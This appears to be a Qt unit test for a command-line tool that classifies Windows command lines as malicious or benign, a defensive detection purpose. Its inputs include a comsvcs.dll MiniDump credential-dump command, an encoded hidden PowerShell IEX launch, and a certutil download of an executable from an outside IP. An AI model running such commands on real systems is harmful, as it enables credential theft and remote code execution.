// causa-cli analyze: readable output, --json, --jsonl with bad lines (SPEC §6, §11).
#include "testutils.h"

#include <QTest>

#include <nlohmann/json.hpp>

using namespace causa;

class TestCliAnalyze : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void jsonSingle();
    void readable();
    void jsonLinesWithBadLines();
    void usageErrors();
};

void TestCliAnalyze::jsonSingle()
{
    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--json"),
                                 QStringLiteral("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full")});
    QCOMPARE(r.exitCode, 0);
    const auto j = nlohmann::json::parse(r.out.toStdString());
    QCOMPARE(j["verdict"].get<std::string>(), std::string("malicious"));
    QVERIFY(j["flags"]["SuspiciousLolbinExecution"].get<bool>());
    bool cred = false;
    for (const auto &f : j["findings"])
        cred = cred || f["category"] == "credential_access";
    QVERIFY(cred);
}

void TestCliAnalyze::readable()
{
    const auto r = test::runCli({QStringLiteral("analyze"),
                                 QStringLiteral("powershell -w hidden -enc SQBFAFgAIAAoACcAYQAnACsAJwBiACcAKQA=")});
    QCOMPARE(r.exitCode, 0);
    const QString out = QString::fromUtf8(r.out);
    QVERIFY2(out.contains(QLatin1String("Verdict: ")), qPrintable(out));
    QVERIFY(out.contains(QLatin1String("base64-utf16le")));
    QVERIFY(out.contains(QLatin1String("Decoded: IEX ('ab')")));
    QVERIFY(out.contains(QLatin1String("Findings")));
    QVERIFY(out.contains(QLatin1String("T1564.003")));
}

void TestCliAnalyze::jsonLinesWithBadLines()
{
    QByteArray input;
    input += "\"certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\"\n";
    input += "not json at all\n";
    input += "42\n";
    input += "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n";
    input += "\"sc query\"\n";
    input += QByteArray("\"") + QByteArray(2 * 1024 * 1024, 'A') + "\"\n";
    input += "\"<script>alert(1)</script>\\u0000\"\n";
    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
    QCOMPARE(r.exitCode, 1); // some lines could not be analysed
    const QList<QByteArray> lines = r.out.trimmed().split('\n');
    QCOMPARE(lines.size(), 7);
    QStringList verdicts;
    for (const QByteArray &l : lines) {
        const auto j = nlohmann::json::parse(l.toStdString());
        QVERIFY(j.is_object());
        verdicts << (j.contains("error") ? QStringLiteral("error") : QString::fromStdString(j["verdict"].get<std::string>()));
    }
    QCOMPARE(verdicts, QStringList({QStringLiteral("malicious"), QStringLiteral("error"), QStringLiteral("error"),
                                    QStringLiteral("error"), QStringLiteral("benign"), QStringLiteral("benign"),
                                    QStringLiteral("benign")}));
    QVERIFY(r.out.contains("\"line\":2"));
}

void TestCliAnalyze::usageErrors()
{
    QCOMPARE(test::runCli({QStringLiteral("analyze")}).exitCode, 2);
    QCOMPARE(test::runCli({QStringLiteral("analyze"), QStringLiteral("--bogus"), QStringLiteral("x")}).exitCode, 2);
    const auto missing = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("/nonexistent/x.jsonl")});
    QCOMPARE(missing.exitCode, 1);
    QVERIFY(missing.err.contains("cannot open"));
}

QTEST_GUILESS_MAIN(TestCliAnalyze)
#include "tst_cli_analyze.moc"
